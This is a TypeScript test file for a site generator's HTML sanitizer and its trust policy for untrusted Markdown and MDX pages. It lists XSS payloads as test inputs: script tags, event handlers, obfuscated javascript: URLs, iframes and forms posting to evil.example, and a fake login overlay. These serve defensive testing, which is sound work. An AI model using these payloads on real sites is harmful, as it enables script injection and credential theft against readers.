/**
 * The trust policy for untrusted sources: the HTML rules (tables of input → rule), stripping, the
 * policy on whole pages with every message as the user sees it, and the hostile fixture set in
 * tests/fixtures/hostile/: nothing in it runs, and the check names every file, line and rule.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { markdownToHtml } from 'satteri';
import { afterAll, describe, expect, it } from 'vitest';
import { renderQuestion } from '../../../src/garden/render/check.ts';
import { GARDEN_COMPONENT_NAMES, GARDEN_COMPONENTS } from '../../../src/garden/render/components.ts';
import { loadConfig } from '../../../src/garden/settings/config.ts';
import { checkContent, exitCodeOf, formatReport } from '../../../src/garden/commands/content-check.ts';
import { cleanHtml, findHtmlViolations, schemeOf, unsafeStyle, unsafeUrl } from '../../../src/garden/policy/html-policy.ts';

import { renderMdx } from '../../../src/garden/render/mdx.ts';
import { formatProblem } from '../../../src/garden/core/problems.ts';
import { trustPolicy } from '../../../src/garden/policy/trust.ts';
import { MARKDOWN_FEATURES } from '../../../src/garden/content/syntax.ts';

const root = join(import.meta.dirname, '..', '..', '..');
const hostile = join(root, 'tests', 'fixtures', 'hostile');
const temp = mkdtempSync(join(tmpdir(), 'grove-trust-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

const rules = (html: string) => findHtmlViolations(html).map((f) => f.rule);
/** What the build shows of `html` (the sanitizer's output), and what the check reports as removed from it. */
const stripHtml = (html: string) => {
  const r = cleanHtml(html);
  return { html: r.html, removed: r.changed ? findHtmlViolations(html).filter((f) => !f.warning) : [] };
};

describe('the HTML policy', () => {
  it.each([
    ['<script>alert(1)</script>', ['no-script']],
    ['<SCRIPT SRC="//evil.example/x.js"></SCRIPT>', ['no-script']],
    ['<img src=x onerror=alert(1)>', ['no-event-handlers']],
    ['<details open ontoggle="alert(1)">', ['no-event-handlers']],
    ['<a href="javascript:alert(1)">x</a>', ['no-unsafe-urls']],
    ['<a href="&#x6A;avascript&#58;alert(1)">x</a>', ['no-unsafe-urls']],
    ['<a href="  java\tscript:alert(1)">x</a>', ['no-unsafe-urls']],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', ['no-unsafe-urls']],
    ['<img srcset="ok.png 1x, javascript:alert(1) 2x">', ['no-unsafe-urls']],
    ['<iframe src="https://evil.example/"></iframe>', ['no-embeds']],
    ['<object data="x.swf"></object><embed src="x.swf">', ['no-embeds', 'no-embeds']],
    ['<svg><script>alert(1)</script></svg>', ['no-embeds']],
    ['<math><mtext><a href="javascript:1">x</a></mtext></math>', ['no-embeds']],
    ['<form action="https://evil.example/"><input name=pw></form>', ['no-forms']],
    ['<button formaction="https://evil.example/">Go</button>', ['no-embeds']],
    ['<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">', ['no-page-elements', 'no-page-elements']],
    ['<style>body{display:none}</style>', ['no-hiding-styles']],
    ['<div style="display:none">x</div>', ['no-hiding-styles']],
    // The allowlist does not read CSS escapes: the whole style goes.
    ['<p style="d\\isplay : NONE !important">x</p>', ['allowed-styles']],
    ['<span style="font-size:0">x</span>', ['no-hiding-styles']],
    ['<div style="position:fixed;top:0;left:0">login here</div>', ['no-hiding-styles']],
    ['<div style="background:url(javascript:alert(1))">x</div>', ['no-unsafe-urls']],
    ['<marquee>x</marquee>', ['allowed-elements']],
    ['<div data-pagefind-weight="10">spam</div>', ['no-search-overrides']],
    // What ordinary Markdown from a wiki uses passes.
    ['<details><summary>More</summary><kbd>Ctrl</kbd> H<sub>2</sub>O <mark>x</mark></details>', []],
    ['<p align="center"><img src="diagram.png" alt="A diagram" width="300"></p>', []],
    ['<a href="https://example.org/" title="x">x</a> <a href="mailto:a@example.org">mail</a> <a href="#top">top</a> <a href="../x.md">rel</a>', []],
    ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">', []],
    ['<span style="color: darkred; font-weight: bold">x</span>', []],
    ['<table><tr><td colspan="2">x</td></tr></table>', []],
  ])('%s → %j', (html, expected) => {
    expect(rules(html)).toEqual(expected);
  });

  it.each([
    ['https://example.org/', 'https'],
    ['/notes/x/', undefined],
    ['x.md#y', undefined],
    ['JavaScript:alert(1)', 'javascript'],
    ['\u0001javascript:alert(1)', 'javascript'],
    ['vbscript:x', 'vbscript'],
    ['file:///etc/passwd', 'file'],
  ])('the scheme of %j is %j', (url, scheme) => {
    expect(schemeOf(url)).toBe(scheme);
  });

  it('says why a URL or a style is refused', () => {
    expect(unsafeUrl('javascript:alert(1)')).toBe('a javascript: URL runs code when followed');
    expect(unsafeUrl('file:///etc/passwd')).toBe('a file: URL is not a web address');
    expect(unsafeUrl('data:image/png;base64,AAA', true)).toBeUndefined();
    expect(unsafeUrl('data:image/png;base64,AAA', false)).toBe('a data: URL is not a web address');
    expect(unsafeStyle('opacity: 0.05')?.why).toBe('`opacity: 0.05` can hide the text, shrink it or lay it over the page');
    expect(unsafeStyle('height: 0; overflow: hidden')?.why).toBe('`overflow: hidden` can cut the text out of view');
    expect(unsafeStyle('margin-left: -9999px')?.why).toBe('`margin-left: -9999px` moves the text out of view');
    expect(unsafeStyle('color: #333; margin: 0 auto')).toBeUndefined();
    // The hidden attribute hides text as surely as a style; Grove's own knowledge-check controls do without it.
    expect(findHtmlViolations('<span hidden>stuffing</span>').map((f) => f.rule)).toEqual(['no-hiding-styles']);
    expect(findHtmlViolations('<div class="question-actions" hidden>stuffing</div>').map((f) => f.rule)).toEqual(['no-hiding-styles']);
    expect(stripHtml('<p>a <span hidden>stuffing</span></p>').html).toBe('<p>a <span>stuffing</span></p>');
    expect(stripHtml('<div class="question-actions" hidden><button type="button">Check answer</button></div>').html).not.toContain('hidden');
    // An allowlist: every declaration must be allowed, wherever it stands, and `! important` may have a space.
    expect(unsafeStyle('display:inline;display:none')?.why).toBe('`display: none` hides the text from readers; also not allowed: `display: inline`');
    expect(unsafeStyle('display:none;display:inline')?.rule).toBe('no-hiding-styles');
    expect(unsafeStyle('position:absolute ! important;inset:0')?.rule).toBe('no-hiding-styles');
  });

  it('finds lines and columns within the HTML', () => {
    expect(findHtmlViolations('<div>\n  <span onclick="x">a</span>\n</div>')).toEqual([expect.objectContaining({ rule: 'no-event-handlers', line: 2, column: 9 })]);
  });

  it('strips what it finds: elements with their content, forms and unknown elements keeping theirs, attributes', () => {
    const { html, removed } = stripHtml(
      '<p>a <span onclick="x()" class="k">b</span><script>c()</script></p><form action="/x"><label>d <input name="e"></label></form><marquee>f</marquee><a href="javascript:g()">h</a><div style="display:none">i</div>',
    );
    // Classes and names Grove does not own are kept under the clobber prefix (not a removal).
    expect(html).toBe('<p>a <span class="user-content-k">b</span></p><label>d <input name="user-content-e"></label>f<a>h</a><div>i</div>');
    expect(removed.map((r) => r.rule)).toEqual(['no-event-handlers', 'no-script', 'no-forms', 'allowed-elements', 'no-unsafe-urls', 'no-hiding-styles']);
  });

  it('leaves a page with nothing to strip as it was, re-serialized from the parse', () => {
    const html = '<h2 id="x">X</h2><p>Fine <a href="/notes/y/">y</a></p>';
    expect(stripHtml(html)).toEqual({ html, removed: [] });
    // Always re-serialized: a tag left open cannot run on into the layout after the page.
    expect(stripHtml('<p>Fine</p><details open ontoggle=alert(1)').html).toBe('<p>Fine</p>');
  });

  it("passes Grove's own rendering untouched: every sample page, code highlighting styles, knowledge checks, callouts", async () => {
    const pages: string[] = [];
    const walk = (d: string) => {
      for (const f of readdirSync(d, { withFileTypes: true })) {
        if (f.isDirectory()) walk(join(d, f.name));
        else if (f.name.endsWith('.md')) pages.push(join(d, f.name));
      }
    };
    walk(join(root, 'content'));
    expect(pages.length).toBeGreaterThan(40);
    for (const p of pages) {
      const body = readFileSync(p, 'utf8').replace(/^---[\s\S]*?\n---\n/, '');
      const { html } = markdownToHtml(body, { features: MARKDOWN_FEATURES });
      expect(stripHtml(html).removed, p).toEqual([]);
    }
    const shiki =
      '<pre class="astro-code github-light-high-contrast" style="background-color:#fff;--shiki-dark-bg:#0a0c10;color:#0e1116;--shiki-dark:#f0f3f6; overflow-x: auto;" tabindex="0" data-language="sh"><code><span class="line"><span style="color:#0E1116;--shiki-dark:#F0F3F6">git</span></span></code></pre>';
    const question = renderQuestion({ question: 'Q?', options: ['a', 'b'], answer: 'a', explanation: 'Because.' }, { name: 'check-1' });
    const callout = GARDEN_COMPONENTS.Callout!({ type: 'tip', title: 'Tip', children: 'x' }).value;
    const { html: mdx } = await renderMdx('<Details summary="More">folded</Details>\n\n- [x] done\n', { fileURL: pathToFileURL(join(temp, 'x.mdx')), mdastPlugins: [], hastPlugins: [] });
    for (const html of [shiki, question, callout, mdx]) expect(stripHtml(html).removed, html).toEqual([]);
  });
});

const page = (body: string, format: 'md' | 'mdx' = 'md') => ({ file: `team/notes/x.${format}`, body, bodyOffset: 4, format, source: 'team' });

describe('trustPolicy', () => {
  it('leaves pages of trusted sources alone, without parsing them', () => {
    const v = trustPolicy(page('<script>x</script>'), { trust: 'trusted', unsafeHtml: 'error' }, GARDEN_COMPONENT_NAMES);
    expect(v).toMatchObject({ problems: [], refused: false });
    expect(v.clean('<script>x</script>')).toEqual({ html: '<script>x</script>', problems: [] });
  });

  it('untrusted Markdown: an error for each violation, at its line and column on disk, naming the rule', () => {
    const v = trustPolicy(page('Text\n\n<div style="display:none">x</div>\n\nA [link](javascript:alert(1)).\n'), { trust: 'untrusted', unsafeHtml: 'error' }, GARDEN_COMPONENT_NAMES);
    expect(v.refused).toBe(false);
    expect(v.problems.map(formatProblem).join('\n')).toMatchInlineSnapshot(`
      "team/notes/x.md:7:6 → no-hiding-styles: the style on <div>: \`display: none\` hides the text from readers; pages from the untrusted source "team" may not use it (remove the style; use Markdown emphasis or a <details> fold for optional text; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/x.md:9:3 → no-unsafe-urls: the link to "javascript:alert(1)": a javascript: URL runs code when followed; pages from the untrusted source "team" may not use it (link to an http(s) address or a page of the garden; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")"
    `);
  });

  it('untrusted: a wikilink names a page, not an address (`[[dendron://vault/note]]` is no dendron: URL); a Markdown link to one still is', () => {
    const v = trustPolicy(page('See [[dendron://notes/lang.rust]] and ![[x.png|20]].\n'), { trust: 'untrusted', unsafeHtml: 'error' }, GARDEN_COMPONENT_NAMES);
    expect(v.problems).toEqual([]);
    const md = trustPolicy(page('See [it](dendron://notes/lang.rust).\n'), { trust: 'untrusted', unsafeHtml: 'error' }, GARDEN_COMPONENT_NAMES);
    expect(md.problems.map((p) => p.message).join()).toContain('dendron: URL');
  });

  it("untrusted with unsafeHtml: 'strip': warnings, and the HTML removed from the rendered page", () => {
    const v = trustPolicy(page('<span onclick="x()">hi</span>\n'), { trust: 'untrusted', unsafeHtml: 'strip' }, GARDEN_COMPONENT_NAMES);
    expect(v.problems.map(formatProblem).join('\n')).toMatchInlineSnapshot(
      `"team/notes/x.md:5:7 → no-event-handlers: removed: the event handler onclick="…" on <span> runs code in the reader's browser (the untrusted source "team" has unsafeHtml: 'strip'; remove the attribute)"`,
    );
    expect(v.problems[0]!.severity).toBe('warning');
    expect(v.clean('<p><span onclick="x()">hi</span></p>')).toEqual({ html: '<p><span>hi</span></p>', problems: [] });
  });

  it('untrusted MDX: code is always an error, strip or not, and the page is refused (never compiled or run)', () => {
    const v = trustPolicy(
      page('import x from "y"\n\n{1 + 1}\n\n<Evil />\n\n<Callout title={x}>a</Callout>\n\n<div onClick="a">b</div>\n', 'mdx'),
      { trust: 'untrusted', unsafeHtml: 'strip' },
      GARDEN_COMPONENT_NAMES,
    );
    expect(v.refused).toBe(true);
    expect(v.problems.map((p) => `${p.severity} ${formatProblem(p)}`).join('\n')).toMatchInlineSnapshot(`
      "error team/notes/x.mdx:5:1 → no-mdx-code: an import or export runs code at build time; pages from the untrusted source "team" may not use it (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      error team/notes/x.mdx:7:1 → no-mdx-code: a {…} expression runs code at build time; pages from the untrusted source "team" may not use it (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      error team/notes/x.mdx:9:1 → no-mdx-code: the component <Evil> is not a garden component; pages from the untrusted source "team" may not use it (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      error team/notes/x.mdx:11:1 → no-mdx-code: an attribute with a {…} expression on <Callout> runs code at build time; pages from the untrusted source "team" may not use it (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      warning team/notes/x.mdx:13:1 → no-event-handlers: removed: the event handler onclick="…" on <div> runs code in the reader's browser (the untrusted source "team" has unsafeHtml: 'strip'; remove the attribute)"
    `);
  });
});

describe('the hostile fixtures', () => {
  const pwned = join(temp, 'PWNED.txt');
  const withEnv = async <T>(env: Record<string, string>, run: () => Promise<T>): Promise<T> => {
    const saved = Object.fromEntries(Object.keys(env).map((k) => [k, process.env[k]]));
    Object.assign(process.env, env);
    try {
      return await run();
    } finally {
      for (const [k, v] of Object.entries(saved))
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
    }
  };

  it('writes-a-file.mdx is live: evaluated as trusted MDX, it writes its file (so the next test can fail)', async () => {
    const live = join(temp, 'live.txt');
    const body = readFileSync(join(hostile, 'team/notes/writes-a-file.mdx'), 'utf8').replace(/^---[\s\S]*?\n---\n/, '');
    await withEnv({ GROVE_PWNED: live }, () => renderMdx(body, { fileURL: pathToFileURL(join(temp, 'x.mdx')), mdastPlugins: [], hastPlugins: [] }));
    expect(readFileSync(live, 'utf8')).toBe('writes-a-file.mdx ran at build time');
  });

  it('the check fails on every violation with file:line:col and the rule, and runs none of the code', async () => {
    const report = await withEnv({ GROVE_PWNED: pwned }, async () => checkContent({ config: await loadConfig(root, { GARDEN_CONFIG: join(hostile, 'garden.config.mjs') }), cwd: root }));
    expect(existsSync(pwned)).toBe(false);
    expect(exitCodeOf(report)).toBe(1);
    expect(formatReport({ ...report, ms: 0 }).replaceAll('tests/fixtures/hostile/', '')).toMatchInlineSnapshot(`
      "team/notes/imports-fs.mdx:4:1  no-mdx-code: an import or export runs code at build time; pages from the untrusted source "team" may not use it  (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      team/notes/imports-fs.mdx:6:1  no-mdx-code: an import or export runs code at build time; pages from the untrusted source "team" may not use it  (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      team/notes/imports-fs.mdx:8:1  no-mdx-code: the component <Evil> is not a garden component; pages from the untrusted source "team" may not use it  (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)
      team/notes/imports-fs.mdx:10:1  no-embeds: <iframe> embeds another page, which may run code; pages from the untrusted source "team" may not use it  (link to the page instead; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")

      team/notes/script-and-handlers.md:8:1  no-script: <script> runs code in the reader's browser; pages from the untrusted source "team" may not use it  (show code in a fenced code block instead; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:10:13  no-event-handlers: the event handler onclick="…" on <span> runs code in the reader's browser; pages from the untrusted source "team" may not use it  (remove the attribute; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:10:61  no-unsafe-urls: the link to "javascript:alert('pwned-link')": a javascript: URL runs code when followed; pages from the untrusted source "team" may not use it  (link to an http(s) address or a page of the garden; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:12:4  no-unsafe-urls: href on <a>: a javascript: URL runs code when followed; pages from the untrusted source "team" may not use it  (link to an http(s) address or a page of the garden; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:14:1  no-embeds: <iframe> embeds another page, which may run code; pages from the untrusted source "team" may not use it  (link to the page instead; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:16:1  no-forms: <form> could send what the reader types to another site; pages from the untrusted source "team" may not use it  (remove the form; link to the real form instead; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")
      team/notes/script-and-handlers.md:18:6  no-hiding-styles: the style on <div>: \`display: none\` hides the text from readers; pages from the untrusted source "team" may not use it  (remove the style; use Markdown emphasis or a <details> fold for optional text; or, to build with it removed and a warning, set unsafeHtml: 'strip' on the source "team")

      team/notes/writes-a-file.mdx:7:1  no-mdx-code: a {…} expression runs code at build time; pages from the untrusted source "team" may not use it  (use Markdown and the garden components (<Callout>, <Details>, <Question>) with literal props, or mark the source trusted)

      ✗ Checked 7 pages in 0.0 s: 12 errors in 3 files."
    `);
  });

  it("with unsafeHtml: 'strip' the check passes with a warning per removal (exit 0)", async () => {
    const report = await checkContent({ config: await loadConfig(root, { GARDEN_CONFIG: join(hostile, 'strip.config.mjs') }), cwd: root });
    expect(exitCodeOf(report)).toBe(0);
    expect(report.problems.map((p) => `${p.severity} ${p.file.replace('tests/fixtures/hostile/', '')}:${p.line} ${p.field}`)).toEqual([
      'warning team-strip/notes/drawing.svg:undefined no-embeds',
      'warning team-strip/notes/stripped-jsx.mdx:5 no-event-handlers',
      'warning team-strip/notes/stripped-jsx.mdx:7 no-embeds',
      'warning team-strip/notes/stripped.md:8 no-script',
      'warning team-strip/notes/stripped.md:10 no-event-handlers',
      'warning team-strip/notes/stripped.md:10 no-unsafe-urls',
      'warning team-strip/notes/stripped.md:12 no-embeds',
      'warning team-strip/notes/stripped.md:14 no-forms',
      'warning team-strip/notes/stripped.md:16 no-hiding-styles',
    ]);
  });
});
